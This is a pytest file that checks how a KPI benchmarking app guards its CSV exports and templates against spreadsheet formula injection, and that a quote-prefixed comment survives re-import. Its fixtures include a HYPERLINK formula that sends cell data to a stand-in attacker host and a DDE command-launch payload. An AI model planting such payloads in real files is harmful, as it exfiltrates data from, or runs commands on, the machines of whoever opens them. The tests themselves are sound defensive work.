"""Issue 10: a comment that is a spreadsheet formula never reaches a CSV as a live formula."""
from __future__ import annotations

import csv
import io

import pytest

from benchclub.csvsafe import neutralise, restore
from benchclub.kpis.csv_io import read_rows, write_rows
from tests.factories import add_value

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("cell", [FORMULA, "+1+2", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_are_quoted_and_come_back_on_import(cell):
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["-3.5", "+2", "42", "plain text", "", "'quoted already"])
def test_numbers_and_plain_text_are_left_alone(cell):
    assert neutralise(cell) == cell and restore(cell) == cell


@pytest.mark.parametrize("who, url", [("member_a", "/kpis/export.csv"), ("facilitator", "/kpis/export.csv?club=C1"),
                                      ("member_a", "/kpis/template.csv?month=2025-01")])
def test_exports_and_templates_carry_no_live_formula(client, world, login_as, db, who, url):
    kpi = _first_kpi_code(world)
    add_value(world, "A", kpi, "2025-01", 1.0, comment=FORMULA)
    db.session.commit()
    login_as(who)
    resp = client.get(url)
    assert resp.status_code == 200
    cells = _cells(resp.get_data(as_text=True))
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not _number(c)]
    if "template" not in url:
        assert "'" + FORMULA in cells


def test_an_export_imported_back_keeps_the_comment():
    text = write_rows([["SUP-A", "2025-01", "OTD", "95", "", FORMULA]])
    rows, errors = read_rows(text.encode(), limit=10_000)
    assert errors == [] and rows[0].comment == FORMULA


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def _first_kpi_code(world) -> str:
    import sqlalchemy as sa

    from benchclub.extensions import db
    from benchclub.models import KpiDefinition

    return db.session.scalar(sa.select(KpiDefinition.code).where(KpiDefinition.club_id == world.club.id)
                             .order_by(KpiDefinition.id))
